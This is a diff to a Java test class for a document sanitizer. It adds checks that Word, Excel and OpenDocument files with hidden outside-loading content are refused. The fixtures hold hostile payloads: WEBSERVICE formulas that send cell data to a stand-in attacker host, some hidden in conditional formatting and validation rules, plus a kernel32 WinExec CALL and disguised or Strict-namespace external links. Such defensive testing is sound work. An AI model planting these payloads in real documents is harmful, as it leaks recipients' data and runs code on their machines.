@@ -190,6 +190,10 @@ class ActiveContentTest {
     assertListedLink(word.report());
     assertFalse(word.report().kept().toString().contains(EVIL), "no link is said to be kept that is gone: " + word.report().kept());
     assertCheckRefuses(Formats.DOCX, docx, "outside addresses that load");
+    // the part's relationships named with other capitals, as Word reads them too (found by review)
+    Result cased = clean("cased.docx", ActiveFixtures.docxWithDisguisedRelationships("word/_rels/Document.xml.rels"), dir);
+    Map<String, String> mc = Readers.unzip(cased.path(), dir);
+    assertFalse(all(mc).contains(EVIL), all(mc));
 
     byte[] pptx = ActiveFixtures.pptxWithHoverAndDisguisedLink();
     Result slides = clean("slides.pptx", pptx, dir);
@@ -224,14 +228,19 @@ class ActiveContentTest {
         {"<f>_xlfn.WEBSERVICE(\"http://" + EVIL + "/w?a=\"&amp;A1)</f><v>1</v>", ""},
         {"<f t=\"shared\" ref=\"B1:B3\" si=\"0\">_xlfn.IMAGE(\"https://" + EVIL + "/p.png\")</f><v>0</v>", ""},
         {"<f>RTD(\"x.server\",\"" + EVIL + "\",\"t\")</f><v>0</v>", ""},
-        {"<f>SUM(1,2)</f><v>3</v>", "<definedNames><definedName name=\"Beacon\">CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</definedName></definedNames>"}}) {
-      RefusedFileException e = assertThrows(RefusedFileException.class, () -> sanitizer.clean(xlsx(c[0], c[1]), "wages.xlsx", 1), c[0]);
+        {"<f>SUM(1,2)</f><v>3</v>", "<definedNames><definedName name=\"Beacon\">CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</definedName></definedNames>"},
+        {"<f>SUM(1,2)</f><v>3</v>", "", "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\">"
+            + "<formula>LEN(_xlfn.WEBSERVICE(\"http://" + EVIL + "/cf\"))&gt;0</formula></cfRule></conditionalFormatting>"},
+        {"<f>SUM(1,2)</f><v>3</v>", "", "<dataValidations count=\"1\"><dataValidation type=\"custom\" sqref=\"A1\">"
+            + "<formula1>ISTEXT(webservice (\"http://" + EVIL + "/dv\"))</formula1></dataValidation></dataValidations>"}}) {
+      RefusedFileException e = assertThrows(RefusedFileException.class,
+          () -> sanitizer.clean(xlsx(c[0], c[1], c.length > 2 ? c[2] : ""), "wages.xlsx", 1), c[0]);
       assertEquals(RefusedFileException.Kind.UNSUPPORTED_VARIANT, e.kind(), e.getMessage());
       assertTrue(e.reason().contains("WEBSERVICE, IMAGE, RTD, CALL, REGISTER"), e.reason());
       assertEquals(WayOut.SAVE_AS_SPREADSHEET, e.wayOut());
     }
     Sanitizer.Cleaned plain = sanitizer.clean(xlsx("<f>MYIMAGE(1)+SUM(A2)</f><v>3</v>",
-        "<definedNames><definedName name=\"Total\">Wages!$A$1</definedName></definedNames>"), "wages.xlsx", 1);
+        "<definedNames><definedName name=\"Total\">Wages!$A$1</definedName></definedNames>", ""), "wages.xlsx", 1);
     assertEquals(Formats.XLSX, plain.report().detectedType());
     String ns = " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
         + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"";
@@ -247,10 +256,53 @@ class ActiveContentTest {
             + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>"}});
     RefusedFileException e = assertThrows(RefusedFileException.class, () -> sanitizer.clean(ods, "wages.ods", 1));
     assertEquals(RefusedFileException.Kind.UNSUPPORTED_VARIANT, e.kind(), e.getMessage());
+    // the same call in a validation's condition
+    byte[] validated = Corpus.zip(true, new String[][] {
+        {"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
+        {"content.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content" + ns + " office:version=\"1.3\">"
+            + "<office:body><office:spreadsheet><table:content-validations><table:content-validation table:name=\"v\""
+            + " table:condition=\"of:is-true-formula(LEN(COM.MICROSOFT.WEBSERVICE(&quot;http://" + EVIL + "/v&quot;)))\"/>"
+            + "</table:content-validations><table:table table:name=\"Wages\"><table:table-row><table:table-cell"
+            + " table:content-validation-name=\"v\"><text:p>1</text:p></table:table-cell></table:table-row></table:table>"
+            + "</office:spreadsheet></office:body></office:document-content>"}});
+    RefusedFileException v = assertThrows(RefusedFileException.class, () -> sanitizer.clean(validated, "wages.ods", 1));
+    assertTrue(v.reason().contains("WEBSERVICE"), v.reason());
+  }
+
+  /**
+   * Found by review: a picture link in ISO 29500 Strict's relationships namespace went unseen by
+   * checks written for the transitional one, and LibreOffice fetched it. A Strict document, by its
+   * namespaces or by its relationship types, is refused.
+   */
+  @Test
+  void strictOpenXmlIsRefused() throws Exception {
+    String strictRels = "http://purl.oclc.org/ooxml/officeDocument/relationships";
+    String doc = ActiveFixtures.XML + "<w:document xmlns:w=\"" + ActiveFixtures.W + "\" xmlns:rs=\"" + strictRels + "\""
+        + " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><w:body><w:p><w:r><w:drawing>"
+        + "<a:blip rs:link=\"rId20\"/></w:drawing></w:r></w:p></w:body></w:document>";
+    String od = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    byte[] namespaced = Corpus.zip(false, new String[][] {
+        {"[Content_Types].xml", ActiveFixtures.types("word/document.xml",
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")},
+        {"_rels/.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", od + "/officeDocument", "word/document.xml", false))},
+        {"word/document.xml", doc},
+        {"word/_rels/document.xml.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId20", od + "/hyperlink",
+            "http://" + EVIL + "/strict.png", true))}});
+    byte[] typed = Corpus.zip(false, new String[][] {
+        {"[Content_Types].xml", ActiveFixtures.types("word/document.xml",
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")},
+        {"_rels/.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", strictRels + "/officeDocument", "word/document.xml", false))},
+        {"word/document.xml", ActiveFixtures.XML + "<w:document xmlns:w=\"" + ActiveFixtures.W + "\"><w:body><w:p><w:r><w:t>x</w:t>"
+            + "</w:r></w:p></w:body></w:document>"}});
+    for (byte[] docx : List.of(namespaced, typed)) {
+      RefusedFileException e = assertThrows(RefusedFileException.class, () -> sanitizer.clean(docx, "strict.docx", 1));
+      assertEquals(RefusedFileException.Kind.UNSUPPORTED_VARIANT, e.kind(), e.getMessage());
+      assertTrue(e.reason().contains("Strict Open XML"), e.reason());
+    }
   }
 
   /** A one-sheet workbook whose first cell holds {@code cell} (a formula and its value), with {@code names} in the workbook. */
-  private static byte[] xlsx(String cell, String names) {
+  private static byte[] xlsx(String cell, String names, String afterCells) {
     String s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
     String od = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
     return Corpus.zip(false, new String[][] {
@@ -260,7 +312,7 @@ class ActiveContentTest {
             + " sheetId=\"1\" r:id=\"rId1\"/></sheets>" + names + "<calcPr fullCalcOnLoad=\"1\"/></workbook>"},
         {"xl/_rels/workbook.xml.rels", ActiveFixtures.rels(ActiveFixtures.rel("rId1", od + "/worksheet", "worksheets/sheet1.xml", false))},
         {"xl/worksheets/sheet1.xml", ActiveFixtures.XML + "<worksheet xmlns=\"" + s + "\"><sheetData><row r=\"1\"><c r=\"A1\">" + cell
-            + "</c></row></sheetData></worksheet>"}});
+            + "</c></row></sheetData>" + afterCells + "</worksheet>"}});
   }
 
   @Test
